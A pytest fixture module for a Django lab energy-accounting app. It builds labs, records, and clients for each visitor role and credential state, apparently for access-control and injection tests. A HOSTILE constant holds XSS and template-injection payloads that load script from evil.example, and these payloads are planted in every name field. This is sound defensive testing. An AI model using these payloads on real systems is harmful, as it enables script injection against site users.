"""Two labs, visitors of each kind, and hostile names."""

from dataclasses import dataclass, replace
from datetime import date
from typing import Any
from uuid import UUID, uuid4

import pytest
from django.test import Client

from apps.accounts.choices import Role, TokenKind
from apps.accounts.models import Lab, Project, Token, User
from apps.accounts.services.invitations import invite
from apps.accounts.services.labs import issue_node_token, issue_user_token
from apps.accounts.services.members import remove_member
from apps.accounts.services.tokens import create_token
from apps.activity.choices import RepetitionKind
from apps.activity.services import record_activity
from apps.activity.services.activity_files import assign_columns
from apps.activity.services.activity_files import upload as upload_activities
from apps.activity.services.file_layout import Answers, columns_of_file
from apps.activity.services.recurring_activities import Repetition, add_recurring_activity
from apps.artifacts.models import Artifact, CleanupItem, CleanupPlan, Copy, Notification
from apps.artifacts.services.holds import place_hold
from apps.assets.models import Asset
from apps.assets.services.attachments import attach
from apps.assets.services.csv_import import upload
from apps.assets.spreadsheets.rows import Options
from apps.attribution.precedence import ConsumerSpan
from apps.attribution.services.rules import Criteria, claim, drafted_rule, make_rule
from apps.billing.services.file_contents import read_file, scan_file
from apps.billing.services.month_versions import confirm, record_batches
from apps.billing.services.uploads import Assignment, UploadedFile, assign
from apps.billing.services.uploads import upload as upload_bill
from apps.budgets.choices import BudgetMetric, PeriodKind
from apps.budgets.services import BudgetInput, add_budget
from apps.carbon.market.services import add_instrument
from apps.carbon.own_factors.services import upload_factors
from apps.carbon.providers.models import GridProvider
from apps.catalog.matching import Draft
from apps.catalog.models import HardwareModel
from apps.catalog.services import add_figure, add_model
from apps.catalog.services.custom_models import Document
from apps.core.clock import now_us
from apps.core.jobs import run_until_idle
from apps.core.models import Job
from apps.fleet.models import Device, Node
from apps.fleet.services import register_node
from apps.ingest.models import Consumer
from apps.planner.formulas.model_costs import ModelCosts
from apps.planner.formulas.work import Work
from apps.planner.job_input import JobInput, Place
from apps.planner.services import create_estimate
from apps.pollers.choices import System
from apps.pollers.models import AssetSource, PolledRow
from apps.preflight.choices import FindingState
from apps.preflight.models import Avoided, DuplicateFinding, Preflight
from apps.preflight.services.findings import decide
from apps.reports.services import close_period, restate_period
from apps.runs.models import Run
from apps.runs.services.fingerprints import put_fingerprint
from apps.runs.services.runs import RunFacts, put_run
from apps.trackers.mlflow.models import MlflowRun, MlflowSource
from apps.trackers.mlflow.services.servers import SourceIn, add_source
from tests.activity.support import DAY_US, draft
from tests.api.conftest import add_person
from tests.artifacts.support import edge, row
from tests.artifacts.support import register_rows as artifacts_told
from tests.assets.support import bought
from tests.attacks.routes import ARTIFACT, PROJECT
from tests.billing.exports import aws_row, csv_bytes
from tests.builders import MINUTE, T0, SmallLab, W, push, small_lab
from tests.carbon.market.instruments import instrument_input
from tests.row_copies import copy_or_create
from tests.runs.fingerprints import a_run, parsed

RUN = "7f1d3b52-2222-4333-8444-555566667777"
GPU = "gpu:GPU-0000-1111"
PDF = b"%PDF-1.7 our-secret-invoice"
# Breaks out of attributes, titles, text areas, scripts and comments; loads, runs and posts.
HOSTILE = (
    "'\"--></title></textarea></script><script src=//evil.example/lcevil></script>"
    "<img src=//evil.example/lcevil onerror=lcevil()><svg/onload=lcevil()>"
    "<b hx-get=//evil.example/lcevil hx-trigger=load><a "
    "href='javascript:lcevil()'>x</a>{{7*7}}${7*7}"
)


def fill(
    small: SmallLab,
    *,
    run: str = RUN,
    name: str = "our-secret-run.py",
    consumer: str = "proc:ada/x",
    **facts: str,
) -> None:
    """Add a project, a run with energy on a GPU, an invitation and a token to a lab."""
    now = now_us()
    invite(
        lab=small.lab,
        role=Role.VIEWER,
        by=small.owner,
        now=now,
        email="guest@example.org",
        note=name,
    )
    create_token(
        lab=small.lab,
        kind=TokenKind.USER,
        name=name[:100],
        scopes=["runs:read"],
        expires_us=None,
        by=small.owner,
        now=now,
    )
    Project.objects.get_or_create(
        lab=small.lab, slug=PROJECT, defaults={"name": name[:200], "created_us": T0}
    )
    put_run(
        lab=small.lab,
        uuid=UUID(run),
        facts=RunFacts(
            name=name[:200],
            started_us=T0,
            project=PROJECT,
            command=[name[:256]],
            params={name[:100]: name},
            os_user=facts.get("os_user", "ada")[:100],
            host=name[:255],
            node_uuid=small.node.uuid,
        ),
        by=small.owner,
        bound_node=None,
    )
    windows = [
        W(
            GPU,
            1000,
            start_us=T0 + i * MINUTE,
            end_us=T0 + (i + 1) * MINUTE,
            seq=i,
            shares=((f"run:{run}", 600), ("idle", 300), (consumer[:256], 100)),
        )
        for i in range(3)
    ]
    push(small.node, windows, device_facts={GPU: {"name": name[:200], "driver": name[:200]}})
    _quarantine(small, name)
    _attribute(small, name)
    _catalogue(small, name)
    _register(small, name)
    _repeat(small, UUID(run), name)
    _server(small, UUID(run), name)
    _artifact(small, run, name)
    days = (date(2026, 10, 30), date(2026, 11, 3))
    run_until_idle(worker="test")
    statement = close_period(
        lab=small.lab, first_day=days[0], last_day=days[1], by=small.owner, now=now_us()
    ).statement
    _activity(small, name)
    run_until_idle(worker="test")
    restate_period(statement=statement, reason=name[:300], by=small.owner, now=now_us())
    _instrument(small, name)
    _estimate(small, name)
    add_budget(
        lab=small.lab,
        values=BudgetInput(
            BudgetMetric.ENERGY,
            PeriodKind.YEAR,
            10**9,
            Project.objects.get(lab=small.lab, slug=PROJECT),
        ),
        by=small.owner,
        now=T0,
    )


def _instrument(small: SmallLab, name: str) -> None:
    """Add a guarantee of origin with a document."""
    add_instrument(
        lab=small.lab,
        values=instrument_input(
            name=name[:200],
            registry=name[:100],
            beneficiary=name[:200],
            notes=name[:1000],
            certificates="GO-1 to GO-3",
            document=Document(f"{name}.pdf", PDF),
        ),
        by=small.owner,
        now=now_us(),
    )


def _quarantine(small: SmallLab, name: str) -> None:
    """Add a node that claims the GPU: a quarantined window and a pending move."""
    other = register_node(
        lab=small.lab, uuid=uuid4(), hostname=name[:255], facts={}, site=small.site, now=T0
    )
    Node.objects.filter(pk=small.node.pk).update(last_push_us=now_us())  # not silent
    push(other, [W(GPU, 10, T0 + 30 * MINUTE, T0 + 31 * MINUTE, counter_start=10**9)])


def _attribute(small: SmallLab, name: str) -> None:
    """Add a rule and a claim to a lab."""
    project = Project.objects.get(lab=small.lab, slug=PROJECT)
    criteria = Criteria(os_user=name[:100], node=small.node)
    rule = drafted_rule(
        lab=small.lab, criteria=criteria, project=project, person=small.owner, from_us=T0
    )
    rule.note = name[:200]
    make_rule(rule=rule, by=small.owner, now=T0)
    spans = [
        ConsumerSpan(row.pk, None, 0, 1)
        for row in Consumer.objects.filter(lab=small.lab, kind="proc")
    ]
    claim(lab=small.lab, spans=spans, project=project, by=small.owner, now=T0)
    run_until_idle(worker="test")


def _catalogue(small: SmallLab, name: str) -> None:
    """Add a custom model, and a figure with its document, to a lab."""
    model = add_model(lab=small.lab, kind="gpu", name="Own card", by=small.owner, now=T0)
    HardwareModel.objects.filter(pk=model.pk).update(name=name[:200], vendor=name[:60])
    draft = Draft(
        method="pcf", unit="item", total_ug=150_000_000_000, source=name[:400], note=name[:400]
    )
    document = Document(name=f"{name[:150]}.pdf", content=b"%PDF-1.7 " + name.encode())
    add_figure(lab=small.lab, model=model, draft=draft, document=document, by=small.owner, now=T0)


def _register(small: SmallLab, name: str) -> None:
    """Add an asset with use measured by the GPU's meter, and an unconfirmed asset import."""
    register_rows = {
        "serial": name[:120],
        "tag": name[:60],
        "supplier": name[:200],
        "location": name[:200],
        "note": name[:1000],
    }
    opening = {"counterpart": name[:200], "note": name[:500]}
    bought(
        small,
        name=name[:200],
        device=Device.objects.get(lab=small.lab, key=GPU),
        opening=opening,
        **register_rows,
    )
    asset = Asset.objects.get(lab=small.lab)
    Asset.objects.filter(pk=asset.pk).update(order_number=name[:100], contact=name[:200])
    attach(asset=asset, file_name=name, content=PDF, by=small.owner, now=now_us())
    _asset_source(small, name)
    _grid_provider(small, name)
    _factor_file(small, name)
    quoted = name.replace('"', '""')
    content = f'name,kind,model,bought_on\n"{quoted}",gpu,"{quoted}",2024-03-01\n'.encode()
    upload(
        lab=small.lab,
        file_name=name,
        content=content,
        options=Options(),
        by=small.owner,
        now=now_us(),
    )
    run_until_idle(worker="test")


def _asset_source(small: SmallLab, name: str) -> None:
    """Add an asset source with a row of each kind. It is not polled."""
    source = AssetSource.objects.create(
        lab=small.lab,
        system=System.NETBOX,
        name=name[:100],
        address="http://127.0.0.1:9",
        token="1:x",
        bought_on="2024-03-01",
        created_by=small.owner,
        created_us=T0,
        problem=name[:400],
        halted_us=T0,
        lost_rows=1,
    )
    asset = Asset.objects.filter(lab=small.lab)[0]
    cells = {"name": name, "model": name, "tag": name, "status": name}
    kinds: list[dict[str, Any]] = [
        {},
        {"asset": asset, "accepted": {"name": "before"}, "problem": name[:400]},
        {"vanished_us": T0, "asset": asset},
        {"problem": name[:400]},
        {"ignored": True},
    ]
    PolledRow.objects.bulk_create(
        PolledRow(source=source, number=number, cells=cells, **values)
        for number, values in enumerate(kinds, 1)
    )


def _grid_provider(small: SmallLab, name: str) -> None:
    """Add a provider of grid intensity with hostile text. It is not requested."""
    GridProvider.objects.create(
        lab=small.lab,
        kind="electricity_maps",
        zone="DE",
        token="1:x",
        created_by=small.owner,
        created_us=T0,
        problem=name[:400],
        message=name[:400],
        failures=1,
    )


def _factor_file(small: SmallLab, name: str) -> None:
    """Upload a file of own factors with hostile text. It is not confirmed."""
    text = "zone,basis,resolution,year,g_per_kwh,source,licence\n"
    text += "DE,direct,annual_country,2020,300,A source,own\n"
    upload_factors(
        lab=small.lab, file_name=name, content=text.encode(), by=small.owner, now=now_us()
    )


def _activity(small: SmallLab, name: str) -> None:
    """Add a day of cloud use, two days before the run."""
    used = draft(
        kind="cloud_compute",
        name=name[:200],
        start_us=T0 - 2 * DAY_US,
        end_us=T0 - DAY_US,
        inputs={
            "provider": "aws",
            "hours": 1,
            "utilization": 50,
            "vcpus": 2,
            "instance_type": name[:200],
        },
        project=PROJECT,
        zone="DE",
        external_id=name[:200],
    )
    record_activity(lab=small.lab, draft=used, by=small.owner, now=now_us())
    add_recurring_activity(
        lab=small.lab,
        draft=replace(used, external_id=""),
        repetition=Repetition(RepetitionKind.WEEK, date(2190, 1, 1)),
        form_key="",
        by=small.owner,
        now=now_us(),
    )
    cell = name[:200].replace('"', '""')
    text = f'kind,"{cell}",name,from\nfile_server,"{cell}","{cell}","{cell}"\n'
    file = upload_activities(
        lab=small.lab,
        file_name=name,
        content=text.encode("utf-8", "replace"),
        encoding="",
        sheet="",
        by=small.owner,
        now=now_us(),
    )
    columns = {column.key: column.field for column in columns_of_file(file)}
    assign_columns(file=file, answers=Answers(columns), now=now_us())
    _bill(small, name)


def _bill(small: SmallLab, name: str) -> None:
    """Upload a cloud bill whose accounts are to be assigned, and record another."""
    row = aws_row(UsageAccountId=name[:200], instanceType=name[:200], region=name[:200])
    tagged = aws_row(project=name[:200])
    for content in (csv_bytes([row]), csv_bytes([row, tagged])):
        file = upload_bill(
            lab=small.lab, files=[UploadedFile(name, [content])], by=small.owner, now=now_us()
        )
        scan_file(uuid=file.uuid)
    file.refresh_from_db()
    accounts = dict.fromkeys(file.found["accounts"], (True, ""))
    assign(file=file, assignment=Assignment(accounts), now=now_us())
    read_file(uuid=file.uuid, now=now_us())
    confirm(file=file, by=small.owner, now=now_us())
    for _ in record_batches(uuid=file.uuid, now=now_us()):
        pass


def _estimate(small: SmallLab, name: str) -> None:
    model = ModelCosts(name=name[:200], input=name[:200], parameters=5, macs=7, layer_outputs=3)
    job = JobInput(model=model, work=Work(samples=9, epochs=2, batch=3), place=Place(card="A100"))
    create_estimate(lab=small.lab, job=job, person=small.owner, now=now_us())


def _repeat(small: SmallLab, uuid: UUID, name: str) -> None:
    """Add a run with a duplicate, a preflight check and a stop because of it."""
    run = Run.objects.get(lab=small.lab, uuid=uuid)
    wire = {
        "told": {name[:100]: name, "lr": 0.1},
        "environment": {name[:64]: name[:255]},
        "entry_name": name[:255],
    }
    put_fingerprint(run=run, payload=parsed(**wire))
    Run.objects.filter(pk=run.pk).update(state="finished", ended_us=T0 + MINUTE)
    again = a_run(
        small.lab, name=name[:200], host=name[:255], started_us=T0 + 5 * MINUTE, user=small.owner
    )
    put_fingerprint(run=again, payload=parsed(**wire, hardware={"gpus": name[:255]}))
    run_until_idle(worker="test")
    repeat = DuplicateFinding.objects.get(lab=small.lab)
    assert repeat.run == again
    decide(
        lab=small.lab,
        finding_ids=[repeat.pk],
        state=FindingState.DISMISSED,
        reason=name[:400],
        by=small.owner,
        is_manager=True,
        now=T0,
    )
    asked = Preflight.objects.create(
        lab=small.lab,
        uuid=uuid4(),
        at_us=T0,
        user=small.owner,
        name=name[:200],
        verdict="duplicate",
        certainty="verified",
        level="warn",
        matches=[str(run.uuid)],
        outcome="stopped",
    )
    Avoided.objects.create(lab=small.lab, preflight=asked, run=run, f1=1, at_us=T0)


def _server(small: SmallLab, uuid: UUID, name: str) -> None:
    """Add an MLflow server with one imported run. It is not polled."""
    register_rows = SourceIn(
        name=name[:100],
        address="http://127.0.0.1:9",
        project=Project.objects.filter(lab=small.lab)[0],
        site=small.site,
        patterns=((name[:200], Project.objects.filter(lab=small.lab)[0]),),
    )
    source = add_source(lab=small.lab, payload=register_rows, by=small.owner, now=now_us())
    Job.objects.filter(kind="trackers.mlflow").delete()
    MlflowSource.objects.filter(pk=source.pk).update(problem=name[:400], version=name[:40])
    run = Run.objects.get(lab=small.lab, uuid=uuid)
    said = {
        "problem": name[:300],
        "verdict_problem": name[:300],
        "verdict": name[:500],
        "written_verdict": name[:500],
    }
    MlflowRun.objects.create(source=source, mlflow_id="a1", run=run, last_listed_us=T0, **said)


def _artifact(small: SmallLab, run: str, name: str) -> None:
    """Add a model produced by the run, and a copy of it."""
    register_rows = {
        "name": name[:255],
        "licence": name[:100],
        "user": name[:100],
        "tags": {name[:100]: name[:300]},
        "facts": {name[:100]: name[:300]},
    }
    copies = [{"path": f"/data/{name}"[:4096], "medium": "ssd"}]
    answers = artifacts_told(small, row(ARTIFACT, **register_rows, copies=copies, runs=[edge(run)]))
    assert answers == [["created"]], answers
    Artifact.objects.filter(lab=small.lab).update(note=name[:1000])
    plan = CleanupPlan.objects.create(
        lab=small.lab, node=small.node, created_by=small.owner, created_us=now_us()
    )
    copy = Copy.objects.get(lab=small.lab)
    CleanupItem.objects.create(
        plan=plan,
        copy=copy,
        artifact=copy.artifact,
        retention_class="intermediate",
        is_last_copy=True,
        due_us=T0,
        selected=True,
        objection=name[:300],
        message=name[:300],
        retrain_run=Run.objects.get(lab=small.lab, uuid=UUID(run)),
        retrain_mj=1,
    )
    Notification.objects.create(
        plan=plan,
        user=small.owner,
        name=name[:150],
        own_items=1,
        other_items=0,
        notified_us=T0,
        mail="failed",
        message=name[:300],
    )
    for on in (
        copy.artifact,
        Project.objects.get(lab=small.lab, slug=PROJECT),
        Run.objects.get(lab=small.lab, uuid=UUID(run)),
    ):
        place_hold(
            on=on, reason=name[:300], until_hour=None, by=small.owner, is_manager=True, now=now_us()
        )
    CleanupItem.objects.update(selected=True)


@dataclass
class World:
    """Our lab with energy use, another lab, and one client of each kind of visitor."""

    ours: SmallLab
    theirs: SmallLab
    visitors: dict[str, Client]


def _session(user: User) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(user, backend="django.contrib.auth.backends.ModelBackend")
    return client


def _bearer(token: str) -> Client:
    return Client(headers={"Authorization": f"Bearer {token}"}, raise_request_exception=False)


def _labs() -> tuple[SmallLab, SmallLab]:
    ours, theirs = small_lab(name="Ours"), small_lab(name="Theirs", zone="FR")
    fill(ours)
    return ours, theirs


@pytest.fixture
def world(db: None) -> World:
    ours, theirs = copy_or_create("world", _labs)
    now = now_us()
    return World(
        ours,
        theirs,
        {
            "anonymous": Client(raise_request_exception=False),
            "node": _bearer(issue_node_token(lab=ours.lab, node_uuid=ours.node.uuid, now=now)),
            "token": _bearer(issue_user_token(lab=ours.lab, user=ours.owner, now=now)),
            "viewer": _session(add_person(ours, Role.VIEWER)),
            "member": _session(add_person(ours, Role.MEMBER)),
            "pi": _session(add_person(ours, Role.PI)),
            "admin": _session(ours.owner),
            "outsider": _session(theirs.owner),
            "expired": _bearer(_ended_token(ours, expires_us=now - 1)),
            "revoked": _bearer(_ended_token(ours, revoked_us=now - 1)),
            "removed": _removed(ours, now),
        },
    )


def _ended_token(small: SmallLab, **end: int) -> str:
    """Return a token of the owner that is no longer valid. ``end``: the field that ends it."""
    text = issue_user_token(lab=small.lab, user=small.owner, now=T0)
    Token.objects.filter(public_id=text.split("_")[2]).update(**end)
    return text


def _removed(small: SmallLab, now: int) -> Client:
    """Return the session of a removed member, who can see no lab."""
    person = add_person(small, Role.MEMBER)
    client = _session(person)
    remove_member(lab=small.lab, person=person, by=small.owner, now=now)
    return client


def hostile_lab(name: str = HOSTILE) -> tuple[SmallLab, Client]:
    """Return a lab and the session of its owner.

    Everything that a person or a node can name is named ``name``.
    """
    small = small_lab(name="Lab")
    Lab.objects.filter(pk=small.lab.pk).update(name=name[:200])
    Project.objects.filter(lab=small.lab).update(name=name[:200])
    User.objects.filter(pk=small.owner.pk).update(
        username=name[:150], first_name=name[:150], last_name=name[:150]
    )
    small.site.name = name[:200]
    small.site.save()
    register_node(
        lab=small.lab,
        uuid=small.node.uuid,
        hostname=name[:255],
        facts={"cpu": name},
        site=small.site,
        now=T0,
    )
    small.lab.refresh_from_db()
    fill(small, name=name, consumer=f"proc:{name}"[:256], os_user=name)
    assert Device.objects.get(key=GPU).name == name[:200]
    return small, _session(small.owner)
